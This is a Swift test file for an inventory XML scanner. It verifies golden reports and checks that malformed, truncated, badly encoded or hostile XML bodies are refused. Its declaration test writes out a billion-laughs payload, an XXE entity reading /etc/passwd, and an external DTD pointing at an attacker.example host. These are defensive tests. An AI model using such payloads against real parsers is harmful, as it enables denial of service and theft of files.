import Foundation
import ParcCore
import Testing

@testable import ParcInventory

/// The byte-level XML scanner (decision 0045): every fixture reads to the report it read to with Foundation's
/// XMLParser (golden files, written by that parser; while both existed, up to commit a641ea4, tests also compared
/// them on every fixture and on 300 byte-flipped bodies), and hostile or broken bodies are refused with an error
/// that names the place. PARC_WRITE_XML_GOLDEN=1 rewrites the golden files from the scanner: only for a deliberate
/// change of the reports.
@Suite("XML scanner")
struct XMLScannerTests {
    /// Every XML request the fixtures hold: agents' inventories, network inventories and PROLOGs.
    static let fixtures: [String] = {
        let inventories = ((try? Fixture.names(in: "inventory/fusion-xml")) ?? []).map { "inventory/fusion-xml/" + $0 }
        let protocols = ((try? Fixture.names(in: "agent-protocols")) ?? []).flatMap { folder in
            ((try? Fixture.names(in: "agent-protocols/" + folder)) ?? [])
                .filter { $0.hasSuffix(".request-body.xml") }
                .map { "agent-protocols/\(folder)/\($0)" }
        }
        return (inventories + protocols).filter { $0.hasSuffix(".xml") }
    }()

    /// What a request reads to, as stable JSON: the report, the PROLOG, or the error's code and message.
    static func outcome(_ data: Data) throws -> Data {
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.sortedKeys, .prettyPrinted, .withoutEscapingSlashes]
        do {
            switch try InventoryXML.readRequest(data) {
            case .inventory(let report): return try encoder.encode(["inventory": report])
            case .prolog(let prolog):
                return try encoder.encode(["prolog": ["deviceid": prolog.deviceID, "token": prolog.token ?? ""]])
            }
        } catch let error as InventoryFormatError {
            return try encoder.encode(["error": ["code": error.code, "message": error.message]])
        }
    }

    static func goldenName(_ fixture: String) -> String {
        "xml-golden/" + fixture.replacingOccurrences(of: "/", with: "_").replacingOccurrences(of: ".xml", with: ".json")
    }

    @Test("the fixtures are all there")
    func fixturesFound() {
        #expect(Self.fixtures.count >= 17, "\(Self.fixtures)")
    }

    @Test("every fixture reads to its golden report", arguments: fixtures)
    func golden(fixture: String) throws {
        let found = try Self.outcome(Fixture.data(fixture))
        if ProcessInfo.processInfo.environment["PARC_WRITE_XML_GOLDEN"] == "1" {
            let source = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
                .appendingPathComponent("Fixtures").appendingPathComponent(Self.goldenName(fixture))
            try FileManager.default.createDirectory(
                at: source.deletingLastPathComponent(), withIntermediateDirectories: true)
            try found.write(to: source)
            return
        }
        let expected = try Fixture.data(Self.goldenName(fixture))
        let message: Comment =
            "\(fixture) no longer reads as its golden file \(Self.goldenName(fixture)); PARC_WRITE_XML_GOLDEN=1 rewrites it"
        // Reports are compared decoded: sets (the sections present) encode in a different order in each process.
        if let golden = try? JSONDecoder().decode([String: InventoryReport].self, from: expected)["inventory"] {
            let report = try JSONDecoder().decode([String: InventoryReport].self, from: found)["inventory"]
            #expect(report == golden, message)
            #expect(golden.agent.deviceID != nil)
        } else {
            #expect(found == expected, message)
        }
    }

    // MARK: Hostile input, refused by the scanner itself (the precheck is bypassed)

    /// Runs the scanner alone on `text`, with a handler that counts and never limits.
    static func scan(_ data: Data) throws(InventoryFormatError) -> Counter {
        try data.withScannableBytes { (raw) throws(InventoryFormatError) -> Counter in
            var scanner = XMLScanner(raw, handler: Counter())
            try scanner.scan()
            return scanner.handler
        }
    }

    static func scan(_ text: String) throws(InventoryFormatError) -> Counter {
        try scan(Data(text.utf8))
    }

    struct Counter: XMLScanHandler {
        var elements = 0
        var depth = 0
        var deepest = 0
        var text: [UInt8] = []
        mutating func startElement(_ name: UnsafeRawBufferPointer) throws(InventoryFormatError) {
            elements += 1
            depth += 1
            deepest = max(deepest, depth)
        }
        mutating func endElement() throws(InventoryFormatError) { depth -= 1 }
        mutating func characters(_ bytes: UnsafeRawBufferPointer) throws(InventoryFormatError) {
            text.append(contentsOf: bytes)
        }
        func currentPath() -> String { "depth \(depth)" }
        var string: String { String(decoding: text, as: UTF8.self) }
    }

    /// The detail of the malformedXML error `body` throws; nil (and an issue) for anything else.
    static func detail(_ body: () throws -> Void) -> (line: Int, column: Int, path: String, detail: String)? {
        do {
            try body()
            Issue.record("accepted")
        } catch InventoryFormatError.malformedXML(let line, let column, let path, let detail) {
            return (line, column, path, detail)
        } catch {
            Issue.record("unexpected \(error)")
        }
        return nil
    }

    @Test("document type declarations are refused by the scanner too: billion laughs, external entities, DOCTYPE")
    func declarations() {
        var entities = #"<!ENTITY lol0 "lol">"#
        for level in 1...9 {
            entities += "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">"
        }
        let payloads = [
            "<?xml version=\"1.0\"?><!DOCTYPE REQUEST [\(entities)]><REQUEST>&lol9;</REQUEST>",
            #"<!DOCTYPE REQUEST [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><REQUEST>&xxe;</REQUEST>"#,
            #"<!DOCTYPE REQUEST SYSTEM "http://attacker.example/x.dtd"><REQUEST/>"#,
            "<!-- a --><!doctype REQUEST><REQUEST/>",
            "<REQUEST><!DOCTYPE x></REQUEST>",
            "<REQUEST><!ENTITY x \"y\"></REQUEST>",
            "<REQUEST></REQUEST><!DOCTYPE x>",
        ]
        for payload in payloads {
            #expect(throws: InventoryFormatError.documentTypeDeclaration, "\(payload)") { try Self.scan(payload) }
        }
        // Without a declaration there is nothing to expand: an entity reference is refused, not looked up.
        let detail = Self.detail { _ = try Self.scan("<REQUEST>&xxe;</REQUEST>") }
        #expect(detail?.detail.contains("&xxe; is not declared") == true)
        #expect(detail?.column == 10)
    }

    @Test("ten thousand nested elements: the scanner does not recurse, the parser stops at its depth limit")
    func deepNesting() throws {
        let deep = "<REQUEST>" + String(repeating: "<A>", count: 10_000) + "x" + String(repeating: "</A>", count: 10_000)
            + "</REQUEST>"
        let counter = try Self.scan(deep)
        #expect(counter.deepest == 10_001)
        #expect(counter.string == "x")
        let error = HostileInputTests.error { _ = try InventoryXML.readRequest(Data(deep.utf8)) }
        #expect(error == .tooDeep(path: "REQUEST/A/A", limit: 32))
        let unclosed = "<REQUEST>" + String(repeating: "<A>", count: 10_000)
        #expect(Self.detail { _ = try Self.scan(unclosed) }?.detail.contains("cut short") == true)
    }

    @Test("unclosed and mismatched tags are refused, naming the element")
    func unclosedAndMismatched() {
        let unclosed = Self.detail {
            _ = try InventoryXML.readRequest(Data("<REQUEST><CONTENT><HARDWARE><NAME>pc</NAME></HARDWARE>".utf8))
        }
        #expect(unclosed?.path == "REQUEST/CONTENT")
        #expect(unclosed?.detail.contains("cut short") == true)
        let mismatched = Self.detail {
            _ = try InventoryXML.readRequest(
                Data("<REQUEST><CONTENT><HARDWARE><NAME>pc</HARDWARE></CONTENT></REQUEST>".utf8))
        }
        #expect(mismatched?.path == "REQUEST/CONTENT/HARDWARE[1]/NAME")
        #expect(mismatched?.detail.contains("</HARDWARE> closes <NAME>") == true)
        #expect(mismatched?.line == 1)
        #expect(mismatched?.column == 39)
        for body in ["<REQUEST>", "<REQUEST><A></B></REQUEST>", "<REQUEST></REQUEST></REQUEST>", "<REQUEST><A>", "<REQUEST/><X/>",
            "<REQUEST>x</REQUEST>y", "<REQUEST><A b=c/></REQUEST>", "<REQUEST><A b=\"1\" b=\"2\"/></REQUEST>",
            "<REQUEST><A b=\"<\"/></REQUEST>", "<REQUEST><A b=\"1\"c=\"2\"/></REQUEST>", "<REQUEST><1A/></REQUEST>",
            "<REQUEST>]]></REQUEST>", "<REQUEST><!-- a -- b --></REQUEST>", "<REQUEST>&amp</REQUEST>",
            "<REQUEST>& </REQUEST>", "<REQUEST>&#xD800;</REQUEST>", "<REQUEST>&#0;</REQUEST>", "<REQUEST>&#x110000;</REQUEST>",
            " <?xml version=\"1.0\"?><REQUEST/>", "<REQUEST><?xml version=\"1.0\"?></REQUEST>", "text<REQUEST/>",
            "<?xml encoding=\"UTF-8\"?><REQUEST/>", "<?xml version=\"2.0\"?><REQUEST/>", "<REQUEST><![CDATA[x</REQUEST>",
            "<REQUEST><!x></REQUEST>", "<REQUEST></ REQUEST>", "< REQUEST/>", "<REQUEST a='1'",
        ] {
            let found = Self.detail { _ = try Self.scan(body) }
            #expect(found != nil, "\(body)")
        }
    }

    @Test("an ASCII fixture cut at every byte offset is refused as cut short")
    func truncatedEverywhere() throws {
        for fixture in ["inventory/fusion-xml/7.xml", "inventory/fusion-xml/9.xml"] {
            let data = try Fixture.data(fixture)
            let text = String(decoding: data, as: UTF8.self)
            let rootEnd = try #require(text.range(of: "</REQUEST>")).upperBound.utf16Offset(in: text)
            for cut in 1..<rootEnd {
                let error = HostileInputTests.error { _ = try InventoryXML.readRequest(data.prefix(cut)) }
                guard case .malformedXML(let line, let column, _, let detail)? = error else {
                    Issue.record("\(fixture) cut at \(cut): \(String(describing: error))")
                    continue
                }
                #expect(detail.contains("cut short"), "\(fixture) cut at \(cut): \(detail)")
                let prefix = data.prefix(cut)
                let expectedLine = prefix.count(where: { $0 == UInt8(ascii: "\n") }) + 1
                #expect(line == expectedLine, "\(fixture) cut at \(cut)")
                #expect(column >= 1)
            }
            #expect((try? InventoryXML.readRequest(data.prefix(rootEnd))) != nil)
        }
    }

    @Test("invalid UTF-8 and forbidden characters are refused where they are")
    func invalidBytes() {
        let cases: [([UInt8], String)] = [
            ([0xC0, 0xAF], "not UTF-8"),  // overlong /
            ([0xED, 0xA0, 0x80], "not UTF-8"),  // a surrogate
            ([0x80], "not UTF-8"),  // a lone continuation byte
            ([0xE2, 0x82], "not UTF-8"),  // a sequence cut short
            ([0xF4, 0x90, 0x80, 0x80], "not UTF-8"),  // beyond U+10FFFF
            ([0xFF], "not UTF-8"),
            ([0x00], "NUL byte"),
            ([0x1B], "U+001B"),
            ([0xEF, 0xBF, 0xBF], "U+FFFF"),
        ]
        for (bytes, expected) in cases {
            let body = Data("<REQUEST><CONTENT><HARDWARE>\n<NAME>pc".utf8) + Data(bytes)
                + Data("</NAME></HARDWARE></CONTENT><DEVICEID>d</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>".utf8)
            let found = Self.detail { _ = try InventoryXML.readRequest(body) }
            #expect(found?.detail.contains(expected) == true, "\(bytes): \(String(describing: found))")
            #expect(found?.path == "REQUEST/CONTENT/HARDWARE[1]/NAME", "\(bytes)")
            #expect(found?.line == 2)
            #expect(found?.column == 9)
        }
        // NUL in a tag name, and after the root element.
        #expect(Self.detail { _ = try Self.scan(Data("<REQ".utf8) + Data([0]) + Data("UEST/>".utf8)) }?.detail.contains("NUL") == true)
        #expect(Self.detail { _ = try Self.scan(Data("<REQUEST/>".utf8) + Data([0])) }?.detail.contains("NUL") == true)
        // Valid multi-byte characters, in text and names, are fine.
        #expect((try? Self.scan("<REQUEST><NOM-été>Zoë 日本 𝄞</NOM-été></REQUEST>"))?.string == "Zoë 日本 𝄞")
    }

    @Test("a huge attribute is read through and dropped; too many attributes are refused")
    func attributes() throws {
        let huge = "<REQUEST><CONTENT><HARDWARE note=\"" + String(repeating: "x", count: 8 << 20)
            + "\"><NAME>pc</NAME></HARDWARE></CONTENT><DEVICEID>d</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>"
        let start = ContinuousClock.now
        let report = try InventoryXML.readInventory(Data(huge.utf8))
        #expect(report.hardware?.name == "pc")
        #expect(ContinuousClock.now - start < .seconds(5))
        let many = "<REQUEST " + (0..<300).map { "a\($0)=\"\($0)\"" }.joined(separator: " ") + "/>"
        #expect(Self.detail { _ = try Self.scan(many) }?.detail.contains("more than 256 attributes") == true)
        let entities = try Self.scan(#"<REQUEST a="&amp;&#65;" b='"'/>"#)
        #expect(entities.elements == 1)
    }

    @Test("references, CDATA, comments, processing instructions and line ends read as XML says")
    func textForms() throws {
        let body = "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\r\n<!-- c --><?pi data?><REQUEST>"
            + "a&amp;b&lt;&gt;&quot;&apos;&#65;&#x42;&#x1F600;\r\nc\rd<![CDATA[<e>&amp;\r\n]]><!-- x --><?p?>f</REQUEST>\n"
        #expect(try Self.scan(body).string == "a&b<>\"'AB😀\nc\nd<e>&amp;\nf")
        // A character reference to a carriage return stays one.
        #expect(try Self.scan("<REQUEST>a&#13;b</REQUEST>").string == "a\rb")
        // A byte order mark is skipped.
        #expect(try Self.scan(Data([0xEF, 0xBB, 0xBF]) + Data("<?xml version=\"1.0\"?><REQUEST>x</REQUEST>".utf8)).string == "x")
        #expect(try Self.scan("<REQUEST><A/><B x = 'y' ></B ></REQUEST >").elements == 3)
    }

    @Test("declared encodings: ISO-8859-1 and windows-1252 are converted; unknown and UTF-16 are refused")
    func encodings() throws {
        func body(_ encoding: String, _ name: [UInt8]) -> Data {
            Data("<?xml version=\"1.0\" encoding=\"\(encoding)\"?><REQUEST><CONTENT><HARDWARE><NAME>".utf8) + Data(name)
                + Data("</NAME></HARDWARE></CONTENT><DEVICEID>d</DEVICEID><QUERY>INVENTORY</QUERY></REQUEST>".utf8)
        }
        #expect(try InventoryXML.readInventory(body("iso-8859-1", [0x70, 0xE9])).hardware?.name == "pé")
        #expect(try InventoryXML.readInventory(body("windows-1252", [0x80, 0x31])).hardware?.name == "€1")
        #expect(try InventoryXML.readInventory(body("ISO-8859-15", [0xA4])).hardware?.name == "€")
        #expect(try InventoryXML.readInventory(body("US-ASCII", [0x41])).hardware?.name == "A")
        let unknown = Self.detail { _ = try InventoryXML.readInventory(body("X-NO-SUCH", [0x41])) }
        #expect(unknown?.detail.contains("X-NO-SUCH") == true)
        let utf16 = Self.detail { _ = try InventoryXML.readInventory(body("UTF-16", [0x41])) }
        #expect(utf16?.detail.contains("UTF-16") == true)
        // Converting may grow a body: the size limit holds for the converted text.
        let latin = body("ISO-8859-1", Array(repeating: 0xE9, count: 600))
        #expect(throws: InventoryFormatError.tooLarge(bytes: latin.count + 600, limit: latin.count + 100)) {
            try InventoryXML.readInventory(latin, limits: InventoryLimits(maxInputBytes: latin.count + 100))
        }
        let windows = body("windows-1252", Array(repeating: 0x80, count: 600))
        let refused = HostileInputTests.error {
            _ = try InventoryXML.readInventory(windows, limits: InventoryLimits(maxInputBytes: windows.count + 100))
        }
        guard case .tooLarge(_, let limit)? = refused else {
            Issue.record("expected tooLarge, got \(String(describing: refused))")
            return
        }
        #expect(limit == windows.count + 100)
        // A byte that is not valid in the declared encoding.
        let invalid = Self.detail { _ = try InventoryXML.readInventory(body("UTF-8", [0xE9])) }
        #expect(invalid?.detail.contains("not UTF-8") == true)
        let sjis = Self.detail { _ = try InventoryXML.readInventory(body("Shift_JIS", [0x81, 0x20])) }
        #expect(sjis?.detail.contains("not valid Shift_JIS") == true)
        #expect(sjis?.line == 1)
    }
}
